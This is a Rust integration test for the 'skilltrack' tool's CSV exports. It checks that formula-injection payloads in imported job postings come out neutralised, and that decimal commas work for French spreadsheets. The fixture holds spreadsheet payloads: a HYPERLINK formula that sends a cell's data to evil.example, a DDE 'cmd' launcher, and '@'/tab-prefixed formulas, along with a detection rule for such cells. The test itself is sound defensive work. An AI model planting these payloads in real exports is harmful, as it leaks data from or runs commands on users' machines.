//! CSV for spreadsheets: postings with hostile titles, companies, ids, URLs
//! and tags imported through the real `skilltrack import` come out
//! neutralised in every CSV (`export postings`, `export trends`,
//! `/api/v1/trends.csv`); with `;` the shares carry a decimal comma that a
//! French number reader reads back as the JSON shares, and with `,` the bytes
//! are today's.

use std::path::Path;
use std::sync::Arc;

use skilltrack::export::{POSTINGS_COLUMNS, TRENDS_COLUMNS};
use skilltrack::store::SledStore;

use crate::helpers::{skilltrack_ok, text, TestApp};

/// `export trends` over the fixture's days, with extra flags.
fn export_trends(db: &Path, extra: &[&str]) -> Vec<u8> {
    let mut args = vec![
        "--data-dir",
        db.to_str().unwrap(),
        "export",
        "trends",
        "--skills",
        SKILLS,
        "--geo",
        "FR",
        "--from",
        "2025-01-01",
        "--to",
        "2025-01-04",
        "--interval",
        "day",
    ];
    args.extend_from_slice(extra);
    skilltrack_ok(&args).stdout
}

/// `export postings --format csv`, with extra flags.
fn export_postings(db: &Path, extra: &[&str]) -> Vec<u8> {
    let mut args = vec![
        "--data-dir",
        db.to_str().unwrap(),
        "export",
        "postings",
        "--format",
        "csv",
    ];
    args.extend_from_slice(extra);
    skilltrack_ok(&args).stdout
}

const SKILLS: &str = "python,rust,kubernetes,postgresql,java";
/// The same trends query, as a query string.
const TRENDS_QUERY: &str =
    "skills=python,rust,kubernetes,postgresql,java&geo=FR&from=2025-01-01&to=2025-01-04&interval=day";

/// Postings whose text cells a spreadsheet would run, and harmless ones
/// (one line each, the import format).
fn hostile_postings() -> String {
    let lines = [
        serde_json::json!({
            "id": "=1+1",
            "title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez ici\")",
            "company": "+cmd|' /C calc'!A0",
            "description": "Compétences requises : Python et Kubernetes.",
            "location": "75 - PARIS 09",
            "posted_at": "2025-01-02",
            "url": "=HYPERLINK(\"http://evil.example\")",
            "tags": ["\t@SUM(1)", "python"],
        }),
        serde_json::json!({
            "id": "-42",
            "title": "@SUM(1+1)",
            "company": "-2+3",
            "description": "Compétences requises : Python et PostgreSQL.",
            "location": "Lyon 3e",
            "posted_at": "2025-01-02",
            "url": "\r=1+1",
            "tags": ["+1"],
        }),
        serde_json::json!({
            "id": "p3",
            "title": "\t=1+1 Développeur Rust",
            "company": "\t@cmd",
            "description": "Compétences requises : Rust et Python.",
            "location": "33000 Bordeaux",
            "posted_at": "2025-01-03",
            "url": "\thttps://example.org/3",
        }),
        serde_json::json!({
            "id": "p4",
            "title": "Développeur Python; =1+1 au milieu",
            "company": "ACME, \"la\" société",
            "description": "Compétences requises : Python.",
            "location": "Lyon 3e",
            "posted_at": "2025-01-03",
            "url": "https://example.org/4",
        }),
        serde_json::json!({
            "id": "p5",
            "title": "Développeur Java",
            "company": "Initech",
            "description": "Compétences requises : Java.",
            "location": "75 - PARIS 09",
            "posted_at": "2025-01-03",
            "url": "https://example.org/5",
        }),
    ];
    lines.iter().map(|l| format!("{l}\n")).collect()
}

/// Whether a spreadsheet would run this cell (the test's own rule, written
/// from OWASP's list, not the crate's).
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// What a safe CSV holds for a stored text value.
fn neutralised(stored: &str) -> String {
    if runs_as_formula(stored) {
        format!("'{stored}")
    } else {
        stored.to_owned()
    }
}

/// The records of a CSV (header first).
fn records(bytes: &[u8], delimiter: u8) -> Vec<csv::StringRecord> {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .collect::<Result<_, _>>()
        .expect("valid CSV")
}

/// No cell of the CSV would run as a formula.
fn assert_no_formula(what: &str, rows: &[csv::StringRecord]) {
    for (i, row) in rows.iter().enumerate() {
        for cell in row {
            assert!(
                !runs_as_formula(cell),
                "{what}: row {i} cell {cell:?} would run"
            );
        }
    }
}

/// A number as a French-locale spreadsheet reads it: a comma marks the
/// fraction, spaces (plain, no-break, narrow no-break) group thousands, and
/// a point makes the cell text (`None`).
fn french_number(cell: &str) -> Option<f64> {
    if cell.contains('.') {
        return None;
    }
    let plain: String = cell
        .chars()
        .filter(|c| !matches!(c, ' ' | '\u{a0}' | '\u{202f}'))
        .map(|c| if c == ',' { '.' } else { c })
        .collect();
    plain.parse().ok()
}

/// Imports the hostile postings into a fresh store through the binary.
fn import_hostile(dir: &Path) -> std::path::PathBuf {
    let db = dir.join("db");
    let file = dir.join("hostile.jsonl");
    std::fs::write(&file, hostile_postings()).unwrap();
    let out = skilltrack_ok(&[
        "--data-dir",
        db.to_str().unwrap(),
        "import",
        file.to_str().unwrap(),
    ]);
    assert!(text(&out.stdout).contains("5 new"), "{}", text(&out.stdout));
    db
}

#[test]
fn hostile_text_is_neutralised_in_every_postings_and_trends_csv() {
    let dir = tempfile::tempdir().unwrap();
    let db = import_hostile(dir.path());

    // What the store holds, from the re-importable export.
    let jsonl = skilltrack_ok(&["--data-dir", db.to_str().unwrap(), "export", "postings"]).stdout;
    let stored: Vec<serde_json::Value> = crate::helpers::json_lines(&jsonl);
    assert_eq!(stored.len(), 5);

    for (delimiter, flags) in [
        (b',', &[][..]),
        (b';', &["--delimiter", ";"][..]),
        (b'\t', &["--delimiter", "\t", "--bom"][..]),
    ] {
        let rows = records(&export_postings(&db, flags), delimiter);
        assert_eq!(rows[0].iter().collect::<Vec<_>>(), POSTINGS_COLUMNS);
        assert_eq!(rows.len(), 6, "header and five postings");
        assert_no_formula("postings CSV", &rows);
        for posting in &stored {
            let id = posting["id"].as_str().unwrap();
            let row = rows[1..]
                .iter()
                .find(|r| &r[2] == neutralised(id).as_str())
                .unwrap_or_else(|| panic!("posting {id:?} in the CSV"));
            for (column, field) in [(3, "title"), (4, "company"), (5, "url")] {
                let value = posting[field].as_str().unwrap_or("");
                assert_eq!(&row[column], neutralised(value), "{id:?} {field}");
            }
            let tags: Vec<&str> = posting["tags"]
                .as_array()
                .map(|t| t.iter().map(|t| t.as_str().unwrap()).collect())
                .unwrap_or_default();
            assert_eq!(&row[16], neutralised(&tags.join("|")), "{id:?} tags");
        }
        // The hostile cells, written out by hand.
        let by_id = |id: &str| rows.iter().find(|r| &r[2] == id).unwrap().clone();
        let first = by_id("'=1+1");
        assert_eq!(
            &first[3],
            "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez ici\")"
        );
        assert_eq!(&first[4], "'+cmd|' /C calc'!A0");
        assert_eq!(&first[5], "'=HYPERLINK(\"http://evil.example\")");
        assert_eq!(&first[16], "'\t@SUM(1)|python");
        let second = by_id("'-42");
        assert_eq!((&second[3], &second[4]), ("'@SUM(1+1)", "'-2+3"));
        assert_eq!((&second[5], &second[16]), ("'\r=1+1", "'+1"));
        let third = by_id("p3");
        // Titles and companies are trimmed at import: the formula is left.
        assert_eq!((&third[3], &third[4]), ("'=1+1 Développeur Rust", "'@cmd"));
        assert_eq!(&third[5], "'\thttps://example.org/3");
        let fourth = by_id("p4");
        assert_eq!(&fourth[3], "Développeur Python; =1+1 au milieu");
        assert_eq!(&fourth[4], "ACME, \"la\" société");
    }

    // Trends: every cell, whatever the delimiter and decimal mark.
    for (delimiter, flags) in [
        (b',', &[][..]),
        (b';', &["--delimiter", ";"][..]),
        (b';', &["--delimiter", ";", "--decimal-point"][..]),
        (b',', &["--decimal-comma"][..]),
    ] {
        let rows = records(&export_trends(&db, flags), delimiter);
        assert_eq!(rows[0].iter().collect::<Vec<_>>(), TRENDS_COLUMNS);
        assert_eq!(rows.len(), 1 + 5 * 4, "five skills × four days");
        assert_no_formula("trends CSV", &rows);
        for row in &rows[1..] {
            row[5].parse::<i64>().expect("count");
            row[6].parse::<i64>().expect("total");
            assert!(
                row[7].is_empty() || row[7].replace(',', ".").parse::<f64>().is_ok(),
                "share {:?}",
                &row[7]
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn semicolon_csv_has_decimal_commas_a_french_reader_reads_as_the_json_shares() {
    let dir = tempfile::tempdir().unwrap();
    let db = import_hostile(dir.path());
    let cli_default = export_trends(&db, &[]);
    let cli_point = export_trends(&db, &["--decimal-point"]);
    let cli_semicolon = export_trends(&db, &["--delimiter", ";"]);
    let cli_semicolon_point = export_trends(&db, &["--delimiter", ";", "--decimal-point"]);
    // The last of the two flags wins.
    let cli_comma_then_point = export_trends(
        &db,
        &["--delimiter", ";", "--decimal-comma", "--decimal-point"],
    );
    let cli_point_then_comma = export_trends(&db, &["--decimal-point", "--decimal-comma"]);
    let cli_comma = export_trends(&db, &["--decimal-comma"]);
    let postings_semicolon = export_postings(&db, &["--delimiter", ";"]);
    let postings_semicolon_point = export_postings(&db, &["--delimiter", ";", "--decimal-point"]);

    let store = Arc::new(SledStore::open(&db, 16).expect("store opens"));
    let app = TestApp::spawn(store).await;
    let (status, json) = app.get(&format!("/api/v1/trends?{TRENDS_QUERY}")).await;
    assert_eq!(status, 200, "{json}");
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    let csv_of = |extra: &'static str| {
        let url = format!(
            "http://{}/api/v1/trends.csv?{TRENDS_QUERY}{extra}",
            app.addr
        );
        async move {
            let r = reqwest::get(url).await.unwrap();
            (r.status().as_u16(), r.bytes().await.unwrap().to_vec())
        }
    };

    // The shares of the JSON, in CSV row order.
    let mut shares = Vec::new();
    for series in json["series"].as_array().unwrap() {
        for point in series["points"].as_array().unwrap() {
            shares.push((
                series["skill"].as_str().unwrap().to_owned(),
                point["date"].as_str().unwrap().to_owned(),
                point["count"].as_i64().unwrap(),
                point["total"].as_i64().unwrap(),
                point["share"].as_f64(),
            ));
        }
    }
    assert_eq!(shares.len(), 20);
    assert!(
        shares
            .iter()
            .any(|s| s.4.is_some_and(|v| v > 0.0 && v < 1.0)),
        "some share is a true fraction: {shares:?}"
    );

    // `;`: read back as a French spreadsheet would, the shares are numbers
    // equal to the JSON's (to the six written decimals).
    let rows = records(&cli_semicolon, b';');
    assert_eq!(rows.len(), 21);
    for (row, (skill, date, count, total, share)) in rows[1..].iter().zip(&shares) {
        assert_eq!((&row[0], &row[1]), (date.as_str(), skill.as_str()));
        assert_eq!(french_number(&row[5]), Some(*count as f64));
        assert_eq!(french_number(&row[6]), Some(*total as f64));
        match share {
            None => assert_eq!(&row[7], ""),
            Some(share) => {
                let read =
                    french_number(&row[7]).unwrap_or_else(|| panic!("{:?} read as text", &row[7]));
                assert!((read - share).abs() <= 5e-7, "{read} vs {share}");
                assert_eq!(&row[7], format!("{share:.6}").replace('.', ","));
            }
        }
    }
    // With a point, the same reader sees text: the problem the comma solves.
    let point_rows = records(&cli_semicolon_point, b';');
    assert!(point_rows[1..]
        .iter()
        .any(|r| !r[7].is_empty() && french_number(&r[7]).is_none()));

    // `,`: today's bytes, rebuilt from the JSON with today's format (the
    // interval and low-support columns appended by issue #14).
    let mut today =
        String::from("date,skill,geo,metric,interval,count,total,share,low,high,low_support\n");
    let decimal = |v: &serde_json::Value| v.as_f64().map(|v| format!("{v:.6}")).unwrap_or_default();
    let points = json["series"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| s["points"].as_array().unwrap());
    for ((skill, date, count, total, share), point) in shares.iter().zip(points) {
        let share = share.map(|v| format!("{v:.6}")).unwrap_or_default();
        let (low, high) = (decimal(&point["low"]), decimal(&point["high"]));
        let low_support = point["low_support"].as_bool().unwrap();
        today.push_str(&format!(
            "{date},{skill},FR,new,day,{count},{total},{share},{low},{high},{low_support}\n"
        ));
    }
    assert_eq!(text(&cli_default), today);
    assert_eq!(cli_point, cli_default);
    assert_eq!(cli_comma_then_point, cli_semicolon_point);
    assert_eq!(cli_point_then_comma, cli_comma);
    // A comma with `,` as delimiter: quoted, and read back whole.
    let comma_rows = records(&cli_comma, b',');
    for (row, (.., share)) in comma_rows[1..].iter().zip(&shares) {
        let want = share
            .map(|v| format!("{v:.6}").replace('.', ","))
            .unwrap_or_default();
        assert_eq!(&row[7], want);
    }
    assert!(text(&cli_comma).contains("\"1,000000\"") || text(&cli_comma).contains(",\"0,"));
    // No decimal column in the postings CSV: the mark changes nothing there.
    assert_eq!(postings_semicolon, postings_semicolon_point);

    // The API: same bytes as the CLI for each choice.
    for (extra, cli) in [
        ("", &cli_default),
        ("&decimal=point", &cli_default),
        ("&delimiter=;", &cli_semicolon),
        ("&delimiter=;&decimal=comma", &cli_semicolon),
        ("&delimiter=;&decimal=point", &cli_semicolon_point),
        ("&decimal=comma", &cli_comma),
    ] {
        let (status, body) = csv_of(extra).await;
        assert_eq!(status, 200, "{extra}");
        assert!(&body == cli, "{extra}: {}", text(&body));
    }
    let (status, body) = csv_of("&delimiter=;&decimal=virgule").await;
    assert_eq!(status, 400);
    let body = text(&body);
    assert!(
        body.contains("decimal: \\\"virgule\\\" is not a decimal mark: use point or comma"),
        "{body}"
    );
    app.stop().await;
}

#[test]
fn help_documents_the_decimal_flags() {
    for command in ["trends", "postings"] {
        let help = text(&skilltrack_ok(&["export", command, "--help"]).stdout);
        for flag in ["--decimal-comma", "--decimal-point", "--delimiter"] {
            assert!(help.contains(flag), "export {command} --help: {help}");
        }
        assert!(help.contains("0,074586"), "{help}");
    }
}
